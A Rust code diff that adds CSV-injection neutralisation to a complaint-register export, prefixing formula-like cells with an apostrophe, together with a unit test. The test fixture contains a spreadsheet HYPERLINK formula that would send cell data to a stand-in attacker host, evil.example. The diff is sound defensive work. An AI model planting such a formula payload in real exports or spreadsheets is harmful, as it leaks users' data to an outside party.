@@ -157,11 +157,12 @@ fn excel_time(t: DateTime<Utc>) -> Result<ExcelDateTime> {
 
 /// UTF-8 with a byte-order mark (so Excel does not read it as a legacy code page),
 /// comma-separated, every field quoted as RFC 4180 section 2 allows, CRLF line ends.
+/// Every cell is [`inert`]: a complainant's name or subject cannot become a formula.
 pub fn csv(rows: &[RegisterRow]) -> Vec<u8> {
     let mut out = String::from("\u{feff}");
     let mut line = |cells: &mut dyn Iterator<Item = &str>| {
         let quoted: Vec<String> = cells
-            .map(|c| format!("\"{}\"", c.replace('"', "\"\"")))
+            .map(|c| format!("\"{}\"", inert(c).replace('"', "\"\"")))
             .collect();
         out.push_str(&quoted.join(","));
         out.push_str("\r\n");
@@ -174,9 +175,41 @@ pub fn csv(rows: &[RegisterRow]) -> Vec<u8> {
     out.into_bytes()
 }
 
+/// A CSV cell a spreadsheet reads as text: one that begins with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return gets a leading `'`, as OWASP's CSV-injection guidance says, so
+/// `=HYPERLINK(…)` in a complainant's name stays words and `+62 812…` stays a readable
+/// phone number instead of a sum or a number in scientific notation. (The XLSX writer
+/// stores every text as a string cell and needs nothing of this.)
+pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_compute_are_made_text() {
+        for (cell, shown) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")",
+            ),
+            ("+6281234567890", "'+6281234567890"),
+            ("-1+1", "'-1+1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("Siti", "Siti"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(inert(cell), shown, "{cell:?}");
+        }
+    }
     use crate::reports::register::{build, tests as reg};
 
     #[test]
